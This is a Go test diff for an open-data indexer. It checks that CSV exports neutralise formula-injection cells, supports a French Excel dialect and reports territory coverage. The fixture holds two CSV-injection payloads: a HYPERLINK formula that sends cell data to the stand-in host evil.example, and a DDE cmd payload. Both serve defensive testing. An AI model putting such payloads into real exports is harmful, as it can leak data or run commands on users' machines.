@@ -19,6 +19,8 @@ import (
 	"github.com/opendatafrance/moisson/indexer/index"
 	"github.com/opendatafrance/moisson/indexer/index/bleve"
 	"github.com/opendatafrance/moisson/indexer/index/indextest"
+	moissonv1 "github.com/opendatafrance/moisson/proto/moisson/v1"
+	"google.golang.org/protobuf/proto"
 )
 
 func testServer(t *testing.T) (*httptest.Server, int) {
@@ -402,5 +404,58 @@ func TestRenderedPages(t *testing.T) {
 	}
 	if a, b := pages.get(res, false), pages.get(res, true); a == b {
 		t.Error("distinct or not: the same rendering")
+	}
+}
+
+// CSV for spreadsheets: a cell that starts like a formula is neutralised in
+// every CSV (OWASP), French Excel gets its dialect, and coverage lists the
+// SCDL items a territory publishes nothing for, as the page does.
+func TestCSVForSpreadsheets(t *testing.T) {
+	idx, err := bleve.OpenMem()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer idx.Close()
+	ds := indextest.Datasets()
+	evil := proto.Clone(ds[0]).(*moissonv1.Dataset)
+	evil.Id, evil.Title, evil.Description = "evil-1", `=HYPERLINK("http://evil.example/?"&A1,"Cliquez")`, "@SUM(1+1)*cmd|' /C calc'!A0"
+	var ops []index.Op
+	for _, d := range append(ds, evil) {
+		ops = append(ops, index.Op{ID: d.GetId(), Version: 1, Dataset: d})
+	}
+	if _, err := idx.Write(context.Background(), ops); err != nil {
+		t.Fatal(err)
+	}
+	srv := httptest.NewServer((&Server{Index: idx}).Handler())
+	defer srv.Close()
+	_, _, body := get(t, srv.URL+"/v1/datasets/export?format=csv&q=cliquez")
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil || len(rows) != 2 || rows[1][1] != `'=HYPERLINK("http://evil.example/?"&A1,"Cliquez")` || rows[1][2] != "'@SUM(1+1)*cmd|' /C calc'!A0" {
+		t.Errorf("export: %v %q", err, rows)
+	}
+	_, h, body := get(t, srv.URL+"/v1/quality?format=csv&dialect=excel-fr")
+	if !strings.HasPrefix(body, "\ufeffgroup;key;datasets;average;") || !strings.Contains(h.Get("Content-Disposition"), "moisson-quality.csv") {
+		t.Errorf("quality for French Excel: %.80q", body)
+	}
+	if avg := strings.Split(strings.Split(body, "\r\n")[1], ";")[3]; !strings.Contains(avg, ",") || strings.Contains(avg, ".") {
+		t.Errorf("average %q: want a decimal comma", avg)
+	}
+	if code, _, _ := get(t, srv.URL+"/v1/quality?dialect=excel-fr"); code != 400 {
+		t.Errorf("dialect without format=csv: %d", code)
+	}
+	var rep index.CoverageReport
+	_, _, body = get(t, srv.URL+"/v1/coverage?territory=bretagne")
+	if err := json.Unmarshal([]byte(body), &rep); err != nil || len(rep.Territories) != 1 {
+		t.Fatalf("coverage: %v %.200s", err, body)
+	}
+	var zero, items int
+	for _, c := range rep.Territories[0].Schema {
+		items++
+		if c.Count == 0 {
+			zero++
+		}
+	}
+	if items < 13 || zero == 0 {
+		t.Errorf("coverage of bretagne: %d SCDL items, %d without datasets; want every item", items, zero)
 	}
 }
